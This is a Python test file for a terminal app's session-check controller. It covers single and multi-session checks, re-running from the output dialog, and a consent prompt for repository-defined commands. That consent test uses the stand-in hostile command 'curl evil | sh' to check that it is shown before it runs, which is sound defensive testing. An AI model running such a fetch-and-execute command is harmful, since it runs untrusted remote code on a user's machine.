"""Checking a session: what is asked, when it is not available, and the consent that it may need."""

from typing import Any

from msgspec.structs import replace

from agor_core.domain.check import CheckStatus
from agor_core.domain.session import CurrentTask
from agor_tui.app.controllers import checks
from agor_tui.app.controllers.checks import CHECK, OUTPUT, Checks
from agor_tui.app.dialogs.check_output import CheckOutput
from agor_tui.app.dialogs.confirm import Confirm
from tests.builders import app_records as make
from tests.fakes.app_daemon import FakeDaemon
from tests.fakes.controller_host import InstantLink, LedgerHost, PlainSubject


class Scene:
    def __init__(self, task=None) -> None:
        self.session = make.session("One", tasks=2)
        self.daemon = FakeDaemon(self.session)
        self.host = LedgerHost()
        self.link = InstantLink(self.host, self.daemon)
        self.subject = PlainSubject(self.session, task=task)
        self.controller = Checks(self.host, self.link, self.subject)

    def follow(self) -> None:
        """The subject's session, as the daemon has it by now."""
        self.subject.sessions = [self.daemon.store["sessions"][self.session.session_id]]

    @property
    def asked(self) -> list[Any]:
        return [(identifier, body) for _, identifier, body in self.daemon.asked("check")]


def test_a_check_runs_once_at_a_time() -> None:
    scene = Scene()
    assert scene.controller.run(OUTPUT) == checks.NOT_CHECKED
    assert scene.controller.run(CHECK) is None
    scene.follow()
    scene.controller.run(CHECK)
    assert scene.asked == [(scene.session.session_id, {})]
    assert scene.host.said == [checks.BEGUN, checks.RUNS]
    scene.subject.sessions = []
    assert scene.controller.run(CHECK) == scene.subject.no_session


def test_an_earlier_task_is_checked_as_it_was() -> None:
    scene = Scene()
    old, present = (make.task(scene.session, at, status="completed") for at in (1, 2))
    current = CurrentTask(task_id=present.task_id, position=2, status=present.status)
    scene.subject.sessions = [replace(scene.session, current=current)]
    for task, at in ((old, {"at": old.task_id}), (present, {}), (replace(old, status="running"), {}), (None, {})):
        scene.subject.task = task
        scene.controller.run(CHECK)
        assert scene.asked[-1][1] == at


def test_the_output_is_shown_and_the_check_can_be_run_again() -> None:
    scene = Scene()
    scene.controller.run(CHECK)
    scene.follow()
    check_id = scene.subject.session.check.check_id
    scene.daemon.end_check(check_id, CheckStatus.FAILED, exit_code=1)
    scene.follow()
    scene.controller.run(OUTPUT)
    (dialog,) = scene.host.dialogs
    assert isinstance(dialog, CheckOutput)
    begun = []
    dialog._again(begun.append)
    assert scene.asked[-1] == (scene.session.session_id, {"command": "make test"})
    assert begun[0].status == CheckStatus.RUNNING


def test_the_repositorys_own_commands_are_shown_before_they_run() -> None:
    scene = Scene()
    scene.daemon.consent = 'check = "curl evil | sh"'
    for answer, asked in ((None, [{}]), (True, [{}, {}, {"consent": "digest"}])):
        scene.controller.run(CHECK)
        assert isinstance(scene.host.dialogs[-1], Confirm)
        assert scene.host.dialogs[-1]._losses == ['check = "curl evil | sh"']
        scene.host.answer(answer)
        assert [body for _, body in scene.asked] == asked


def test_selected_together_each_is_checked() -> None:
    scene = Scene()
    other = make.session("Two", tasks=1)
    scene.daemon.put(other)
    controller = Checks(scene.host, scene.link, scene.subject, lambda: [scene.session, other])
    controller.run(CHECK)
    assert scene.asked == [(scene.session.session_id, {}), (other.session_id, {})]
    assert scene.host.said == [checks.ALL_BEGUN.format(count=2)]
